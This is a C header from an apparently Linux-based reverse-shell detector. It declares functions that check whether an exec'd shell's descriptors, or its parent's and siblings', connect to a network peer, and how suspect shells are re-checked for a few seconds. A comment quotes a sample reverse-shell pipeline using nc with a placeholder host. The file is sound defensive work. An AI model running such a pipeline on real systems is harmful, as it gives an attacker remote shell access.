/* SPDX-License-Identifier: MIT */
/*
 * Whether an exec'ing shell is wired to the network (ev->net), from its
 * descriptors 0-2 and, for a pipe, named fifo, pty or socketpair, the
 * descriptors of the process at the other end: the parent that spawned it
 * or a sibling in the same pipeline.  What it finds are facts (the peer,
 * how, who holds the socket); whether they make a reverse shell is the
 * detector's judgement (sw_rules_net_revshell()).
 *
 * At the exec, a socket on the shell's stdio and the parent holding its
 * pty's master or socketpair's other end are looked for.  A pipe's or
 * fifo's holder often connects a moment after the shell starts (`cat f |
 * sh -i | nc HOST PORT` starts all three at once), and most shells that
 * write to a pipe are gone within a second: a shell whose output goes to a
 * pipe, fifo, pty or socketpair with no connected holder is kept for 3
 * seconds and, while it runs, looked at again once a second, with its
 * parent's and siblings' descriptors.
 */
#ifndef SW_REVCONN_H
#define SW_REVCONN_H

#include <stdbool.h>
#include <stdint.h>

#include "event.h"
#include "lineage.h"

/* Shells kept to be looked at again, at most, and for how long. */
#define SW_REVCONN_KEEP 256
#define SW_REVCONN_KEEP_NS (3ull * 1000000000ull)

struct sw_revconn;

/* procfd: /proc (the caller's, not closed).  NULL when out of memory. */
struct sw_revconn *sw_revconn_new(int procfd);
void sw_revconn_free(struct sw_revconn *rc);

/*
 * At the exec of ev->pid, after the table applied it.  candidate: a shell
 * or interpreter (all three descriptors and their holders are looked at);
 * otherwise only a process whose stdin is a socket is (fd 0 is read, and
 * it counts when its stdout or stderr is that same socket).  parent_now:
 * the parent is looked at for a pipe's or fifo's end at once, not at the
 * next tick (a one-liner's interpreter running each command it is sent:
 * those shells are gone within a second).  True with ev->net set
 * (SW_HAVE_NET) when wired to a peer now.
 */
bool sw_revconn_exec(struct sw_revconn *rc, const struct sw_lineage *l,
		     struct sw_event *ev, bool candidate, bool parent_now);

typedef void (*sw_revconn_found_fn)(void *data, int pid,
				    const struct sw_net_peer *net);

/*
 * Once a second: the kept shells looked at again; found() for each that is
 * wired now, which is kept no longer.  A shell that exited or was kept
 * SW_REVCONN_KEEP_NS is dropped.
 */
void sw_revconn_tick(struct sw_revconn *rc, const struct sw_lineage *l,
		     uint64_t now_ns, sw_revconn_found_fn found, void *data);

/*
 * Whether process pid holds a listening socket, tcp or unix (an app above a
 * suspect shell): enum sw_app_listens, SW_APP_UNKNOWN when unreadable.
 */
uint8_t sw_revconn_listens(struct sw_revconn *rc, int pid);

struct sw_revconn_counts {
	uint64_t checked;	/* execs whose descriptors were read */
	uint64_t holders;	/* holder scans */
	uint64_t kept;		/* shells kept to look at again */
	uint64_t late;		/* of them found wired later */
	uint64_t dropped;	/* kept ones that could not be (full) */
	uint64_t listens;	/* apps asked whether they listen */
};
void sw_revconn_counts(const struct sw_revconn *rc, struct sw_revconn_counts *ret);

#endif
